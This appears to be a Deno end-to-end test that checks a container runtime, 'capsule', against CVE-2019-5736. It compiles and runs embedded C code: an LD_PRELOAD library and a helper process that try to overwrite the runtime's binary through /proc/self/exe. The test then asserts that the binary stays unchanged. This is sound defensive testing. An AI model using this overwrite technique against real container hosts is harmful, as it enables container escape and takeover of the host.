// CVE-2019-5736 against capsule, end to end (issue 10 item 1): a Debian image (the debootstrap
// rootfs of tests/e2e/rootfs.sh redis, cached) whose entrypoint is a script with
// `#!/proc/self/exe`, run with LD_PRELOAD of a library built here with cc. The kernel runs the
// init's own binary (capsule's native helper, dist/capsule-nsexec, through its sealed read-only
// view) as the container's PID 1, inside the container. The helper is static: the library is
// never loaded into it (with the Deno init of before, it was, and tried to write /proc/self/exe
// at once and again once no process ran the binary: EROFS both times). The helper, started
// without capsule's plan, refuses and exits 2; its sha256 must be unchanged. Root only.
import { assertEquals, assertMatch, REPO, type Result } from "../helpers.ts";

const HERE = new URL(".", import.meta.url).pathname;
const BUILD = [`${HERE}rootfs.sh`, "redis", "redis-server,redis-tools"];
const dec = new TextDecoder();

function has(path: string): boolean {
  try {
    return Deno.statSync(path).isFile;
  } catch {
    return false;
  }
}

function unavailable(): string | undefined {
  if (Deno.uid() !== 0) return "not root";
  if (!has("/usr/bin/cc")) return "no C compiler (apt-get install gcc)";
  const out = new Deno.Command("bash", { args: [BUILD[0], "--print-path", ...BUILD.slice(1)] })
    .outputSync();
  if (!has(dec.decode(out.stdout).trim()) && !has("/usr/sbin/debootstrap")) {
    return "no cached rootfs tarball and debootstrap is not installed";
  }
  return undefined;
}

const EVIL_C = String.raw`
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static void note(const char *when, int err) {
  int fd = open("/x/result", O_WRONLY | O_CREAT | O_APPEND, 0644);
  dprintf(fd, "%s %s\n", when, err ? strerrorname_np(err) : "WROTE");
  close(fd);
}

__attribute__((constructor)) static void attack(void) {
  unsetenv("LD_PRELOAD");
  int w = open("/proc/self/exe", O_WRONLY);
  if (w >= 0) {
    (void)!write(w, "PWNED", 5);
    close(w);
    note("now", 0);
  } else {
    note("now", errno);
  }
  int keep = open("/proc/self/exe", O_PATH); /* inherited by the waiter (no O_CLOEXEC) */
  if (fork() == 0) {
    char n[16];
    snprintf(n, sizeof n, "%d", keep);
    execl("/x/waiter", "waiter", n, (char *)0); /* a process that does not run the binary */
    _exit(1);
  }
  execl("/bin/sleep", "sleep", "1000", (char *)0); /* PID 1 stops running the binary */
  _exit(1);
}
`;

/** Keeps the O_PATH fd of the binary and writes through it once no process runs it. */
const WAITER_C = String.raw`
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int main(int argc, char **argv) {
  char p[64];
  snprintf(p, sizeof p, "/proc/self/fd/%s", argv[1]);
  int last = 0;
  for (int i = 0; i < 100; i++) {
    usleep(50000);
    int fd = open(p, O_WRONLY);
    if (fd >= 0) {
      ssize_t n = write(fd, "PWNED", 5);
      last = n == 5 ? 0 : errno;
      close(fd);
      break;
    }
    last = errno;
    if (last != ETXTBSY) break;
  }
  int fd = open("/x/result", O_WRONLY | O_CREAT | O_APPEND, 0644);
  dprintf(fd, "later %s\n", last ? strerrorname_np(last) : "WROTE");
  return 0;
}
`;

async function run(argv: string[]): Promise<Result> {
  const out = await Deno.makeTempFile(), err = await Deno.makeTempFile();
  const q = (a: string) => `'${a.replaceAll("'", `'\\''`)}'`;
  try {
    const st = await new Deno.Command("sh", {
      args: ["-c", argv.map(q).join(" ") + ` >${out} 2>${err}`],
      stdin: "null",
    }).output();
    return {
      code: st.code,
      stdout: Deno.readTextFileSync(out),
      stderr: Deno.readTextFileSync(err),
    };
  } finally {
    await Deno.remove(out).catch(() => {});
    await Deno.remove(err).catch(() => {});
  }
}

async function sha256(path: string): Promise<string> {
  const r = await run(["sha256sum", path]);
  return r.stdout.split(" ")[0];
}

const why = unavailable();
if (why && Deno.uid() === 0) console.error(`tests/e2e/exe_overwrite_test.ts ignored: ${why}`);

Deno.test({
  name:
    "e2e: a #!/proc/self/exe image with LD_PRELOAD runs no code in capsule's binary nor rewrites it",
  ignore: why !== undefined,
  sanitizeResources: false,
  sanitizeOps: false,
  fn: async () => {
    const built = await run(["bash", ...BUILD]);
    assertEquals(built.code, 0, built.stderr);
    const tarball = built.stdout.trim();
    const tmp = await Deno.makeTempDir({ prefix: "capsule-cve-" });
    const root = `${tmp}/state`, store = `${tmp}/store`, x = `${tmp}/x`;
    const helper = `${REPO}/dist/capsule-nsexec`;
    await Deno.mkdir(x);
    const id = `pwn-${crypto.randomUUID().slice(0, 8)}`;
    const cap = (...args: string[]) =>
      run([
        Deno.execPath(),
        "run",
        "-A",
        "--quiet",
        `${REPO}/main.ts`,
        "--root",
        root,
        "--store",
        store,
        ...args,
      ]);
    try {
      await Deno.writeTextFile(`${tmp}/evil.c`, EVIL_C);
      const cc = await run([
        "cc",
        "-shared",
        "-fPIC",
        "-O1",
        "-o",
        `${x}/evil.so`,
        `${tmp}/evil.c`,
      ]);
      assertEquals(cc.code, 0, cc.stderr);
      await Deno.writeTextFile(`${tmp}/waiter.c`, WAITER_C);
      const cw = await run(["cc", "-O1", "-o", `${x}/waiter`, `${tmp}/waiter.c`]);
      assertEquals(cw.code, 0, cw.stderr);
      await Deno.writeTextFile(`${x}/entry`, "#!/proc/self/exe\n");
      await Deno.chmod(`${x}/entry`, 0o755);
      const before = await sha256(helper);
      const imp = await cap("image", "create", "debian", tarball);
      assertEquals(imp.code, 0, imp.stderr);
      // The control: the library runs in a dynamic program of the image (its constructor then
      // execs sleep, so the container is removed by force).
      const control = await cap(
        "image",
        "run",
        "-d",
        "--id",
        `${id}-control`,
        "-v",
        `${x}:/x`,
        "-e",
        "LD_PRELOAD=/x/evil.so",
        "--entrypoint",
        "/bin/true",
        "debian",
      );
      assertEquals(control.code, 0, control.stderr);
      let seen = "";
      for (let i = 0; i < 100 && !/^now /.test(seen); i++) {
        await new Promise((res) => setTimeout(res, 50));
        try {
          seen = Deno.readTextFileSync(`${x}/result`);
        } catch { /* not yet */ }
      }
      assertMatch(seen, /^now /, "the control: the library did not run in /bin/true");
      await cap("image", "destroyc", "-f", `${id}-control`);
      await Deno.remove(`${x}/result`);
      const r = await cap(
        "image",
        "run",
        "--id",
        id,
        "-v",
        `${x}:/x`,
        "-e",
        "LD_PRELOAD=/x/evil.so",
        "--entrypoint",
        "/x/entry",
        "debian",
      );
      // The helper, run by the kernel as the script's interpreter, without capsule's plan.
      assertEquals(r.code, 2, r.stdout + r.stderr);
      assertMatch(r.stderr, /capsule-nsexec: started by capsule only/);
      let result = "";
      try {
        result = Deno.readTextFileSync(`${x}/result`);
      } catch { /* nothing ran: expected */ }
      assertEquals(result, "", "the library ran inside capsule's binary");
      assertEquals(await sha256(helper), before, "capsule's helper changed");
    } finally {
      await cap("image", "destroyc", "-f", id);
      await cap("image", "destroyc", "-f", `${id}-control`);
      await cap("image", "delete", "-f", "debian");
      await Deno.remove(tmp, { recursive: true }).catch(() => {});
    }
  },
});
